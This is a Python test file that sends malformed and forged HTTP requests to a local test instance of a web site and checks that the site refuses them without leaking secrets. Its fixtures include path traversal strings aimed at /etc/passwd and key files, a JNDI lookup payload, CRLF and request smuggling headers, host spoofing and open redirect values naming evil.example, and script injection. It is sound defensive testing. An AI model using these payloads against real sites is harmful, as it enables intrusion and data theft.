"""What strangers send to a running site all day: bytes that are no request, and forged ones."""

import re

import pytest

from tests.faults.asking import header_of, raw, request, status_of
from tests.journeys.site import Site

pytestmark = [pytest.mark.browser, pytest.mark.xdist_group("browser")]

SECRETS = (b"root:", b"Traceback", b"SQLite format", b"site-packages")
LONG = b"a" * 7000
# Ways out of the folders that files are served from.
WAYS_OUT = (
    b"../secret.key", b"../../secret.key", b"%2e%2e/secret.key", b"%2e%2e/%2e%2e/secret.key",
    b"..%2f..%2fsecret.key", b"..%5c..%5csecret.key", b"..\\..\\secret.key",
    b"....//....//secret.key", b"%252e%252e/secret.key", b"..;/secret.key", b"/etc/passwd",
    b"%2fetc%2fpasswd", b"../rostra.sqlite3", b"../../rostra.sqlite3",
    b"../original_images/tug.png", b"%00../secret.key", b"x%00.png", b".", b"..", b"", b"%ff%fe",
    b"\xe6\xb8\xaf", b"con", b"a" * 5000, b"a/" * 2000,
)  # fmt: skip
# By the statuses that may answer them.
PATHS = {
    (400,): (
        b"/\xff\xfe/", b"/\x00/", b"/ /", b"", b"/latest/?older=\xff",
    ),
    (400, 404): (
        b"/\x7f/", b"/\xe6\xb5\xb7/", b"*",
    ),
    (200, 400): (
        b"http://evil.example/latest/",
    ),
    (404,): (
        b"//evil.example/", b"//evil.example", b"/%00/", b"/%ff%fe/",
        b"/%0d%0aSet-Cookie:%20a=b/", b"/%0d%0a/", b"/%5cevil.example/", b"/\\evil.example",
        b"/%2f%2fevil.example/latest", b"/%2e%2e/%2e%2e/etc/passwd", b"/../../etc/passwd",
        b"/.git/config", b"/.env", b"/secret.key", b"/rostra.sqlite3", b"/media/../secret.key",
        b"/latest/?older=" + b"9" * 7000, b"/" + LONG + b"/", b"/" + b"a/" * 3000,
        b"/accounts/confirm-email/%00/", b"/me/for/article:%00",
        b"/me/for/article:" + b"9" * 30, b"/me/for/x%2f..",
    ),
    (301,): (
        b"/zh-hans//evil.example", b"/zh-hans/%2fevil.example", b"/zh-hans/%5cevil.example",
        b"/zh-hans/%09/evil.example", b"/zh-hans/%0d%0aX:y", b"/zh-hans/\\evil.example",
        b"/zh-hans/;@evil.example", b"/latest", b"/latest?%0d%0aX:y", b"/en",
        b"/news/1-" + LONG + b"/",
    ),
    (200,): (
        b"/?" + LONG, b"/?" + b"a=b&" * 2000, b"/latest/?%F0%9F%98%80=%ED%A0%80",
        b"/?a[]=1&a[$ne]=1&__proto__=1", b"/accounts/login/?next=http://[",
        b"/accounts/login/?next=%00", b"/accounts/login/?language=" + LONG,
    ),
    (414,): (
        b"/?" + b"a" * 80_000,
    ),
    (414, 431): (
        b"/?" + b"a" * 1_000_000,
    ),
    (200, 302, 404): (
        b"/accounts/password/reset/key/1-%00/",
    ),
    (302,): (
        b"/desk/", b"/accounts/3rdparty/",
    ),
    (302, 404): (
        b"/desk/%00/", b"/desk/articles/edit/" + b"9" * 30 + b"/",
    ),
}  # fmt: skip
HEADERS = (
    b"X-Forwarded-Host: evil.example", b"X-Forwarded-Proto: https", b"X-Forwarded-Port: 1",
    b"X-Forwarded-For: 127.0.0.1", b"X-Forwarded-For: evil, \xff, 1.2.3.4.5",
    b"X-Forwarded-For: " + b"1.1.1.1," * 800,
    b"Forwarded: for=evil;host=evil.example;proto=https", b"X-Original-URL: /desk/",
    b"X-Rewrite-URL: /desk/", b"X-HTTP-Method-Override: DELETE", b"Cookie: \xff\xfe",
    b"Cookie: =;=;;;,", b"Cookie: sessionid=" + LONG, b"Cookie: sessionid=%00\xff",
    b"Cookie: csrftoken=\xff; sessionid=../../x; rostra_member=1; messages=x; django_language=\xff",
    b"Cookie: " + b"a=b;" * 1500, b"Accept-Language: \xff", b"Accept-Language: " + b"zh," * 2000,
    b"Accept-Language: zh" + b"-a" * 300, b"Accept-Language: en;q=nan,zh;q=-1,*;q=1e999",
    b"Accept-Encoding: \xff", b"Accept-Encoding: br;q=x", b"Range: bytes=0-1",
    b"Range: bytes=x-y", b"If-Modified-Since: \xff",
    b"If-Modified-Since: Thu, 99 Foo 9999 99:99:99 GMT", b"If-None-Match: \xff", b"Referer: \xff",
    b"Referer: http://[", b"Origin: null", b"User-Agent: \xff\xfe",
    b"User-Agent: ${jndi:ldap://evil.example/a}", b"Authorization: Basic \xff",
    b"Content-Type: \xff", b"Content-Type: multipart/form-data", b"X-Request-ID: \xff",
    b"X-Request-ID: evil.example/<script>", b"HX-Request: true", b"HX-Current-URL: http://[",
    b"Upgrade: h2c", b"Expect: 100-continue", b"Transfer-Encoding: chunked", b"Content-Length: 5",
    b"X_Forwarded_Host: evil.example", b"Sec-Fetch-Site: cross-site", b"Host: evil.example",
    b" X: y", b"X\xff: y", b": y", b"X: y\r\n z", b"X", b"Content-Length: -5",
    b"Content-Length: x", b"Transfer-Encoding: gzip",
    b"Transfer-Encoding: chunked\r\nContent-Length: 5",
)  # fmt: skip
HOSTS = (
    b"evil.example", b"localhost@evil.example", b"", b"a" * 5000, b"\xff", b"[::1", b"..",
    b"localhost/evil", b"localhost, evil.example", b"localhost evil", b'"><script>', None,
)  # fmt: skip
NO_REQUESTS = (
    b"\r\n\r\n", b"GET\r\n\r\n", b"GET / HTTP/9.9\r\nHost: localhost\r\n\r\n",
    b"\x16\x03\x01\x02\x00\x01\x00\r\n\r\n", b"GET / HTTP/1.1\nHost: localhost\n\n\n",
    bytes(range(14, 256)) + b"\r\n\r\n", b"\xff\xf4\xff\xfd\x06\r\n\r\n", b"SSH-2.0-x\r\n\r\n",
    b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", b"GET / HTTP/1.1\r\n" + b"X: y\r\n" * 5000 + b"\r\n",
    b"POST / HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n"
    b"Connection: close\r\n\r\nZZ\r\n\r\n",
)  # fmt: skip
# Where a header is not to be understood the request is refused, and no header breaks a page.
PLACES = {b"/": {200, 400}, b"/accounts/login/": {200, 400}, b"/me/for/article:1": {204, 400}}


def check(answer: bytes, allowed: set[int], about: object) -> None:
    """See that an answer is one of those allowed, tells no secret, and leads nowhere else."""
    assert status_of(answer) in allowed, (about, answer[:300])
    assert not [secret for secret in SECRETS if secret in answer], about
    location = header_of(answer, "location")
    assert re.fullmatch(r"|/(?![/\\])[^\\\s]*", location), (about, location)
    assert "evil" not in header_of(answer, "set-cookie"), about


@pytest.mark.parametrize("folder", [b"/media/images/", b"/media/", b"/static/", b"/static/web/"])
def test_no_way_leads_out_of_a_folder(site: Site, folder: bytes) -> None:
    key = (site.folder / "secret.key").read_bytes()[:20]
    for way in WAYS_OUT:
        answer = raw(site, request(folder + way))
        check(answer, {400, 404}, folder + way)
        assert key not in answer


def test_no_path_breaks_a_page(site: Site) -> None:
    for statuses, paths in PATHS.items():
        for path in paths:
            check(raw(site, request(path)), set(statuses), path[:80])


def test_no_header_breaks_a_page(site: Site) -> None:
    plain = {path: raw(site, request(path)) for path in PLACES}
    for line in HEADERS:
        for path, statuses in PLACES.items():
            answer = raw(site, request(path, headers=[line]))
            check(answer, statuses, (line[:60], path))
            if path == b"/" and status_of(answer) == 200:
                assert body(answer) == body(plain[path]), line[:60]


def test_no_host_but_ours_is_answered(site: Site) -> None:
    for host in HOSTS:
        for path in (b"/", b"/latest", b"/accounts/login/", b"/desk/", b"/nothing/"):
            answer = raw(site, request(path, host=host))
            check(answer, {400}, (host, path))
            assert b"evil" not in answer, (host, path)


def test_a_public_page_is_only_read(site: Site) -> None:
    told = [site.told[kind].encode() for kind in ("front", "article", "gone", "missing", "section")]
    for method in (b"POST", b"PUT", b"PATCH", b"DELETE", b"OPTIONS", b"TRACE", b"CONNECT", b"FOO"):
        for path in told:
            answer = raw(site, request(path, method, body=b"a=b" * 1000))
            check(answer, {405}, (method, path))
            assert header_of(answer, "allow") == "GET, HEAD"
            assert not header_of(answer, "set-cookie")
    for path in told:
        head, get = (raw(site, request(path, method)) for method in (b"HEAD", b"GET"))
        assert status_of(head) == status_of(get)
        assert body(head) == b""


def test_what_is_no_request_is_refused(site: Site) -> None:
    for sent in NO_REQUESTS:
        answer = raw(site, sent, whole=True)
        assert answer == b"" or status_of(answer) < 500, (sent[:60], answer[:200])
    assert site.get("/latest/").status == 200


def body(answer: bytes) -> bytes:
    """Return the body of an answer."""
    return answer.partition(b"\r\n\r\n")[2]
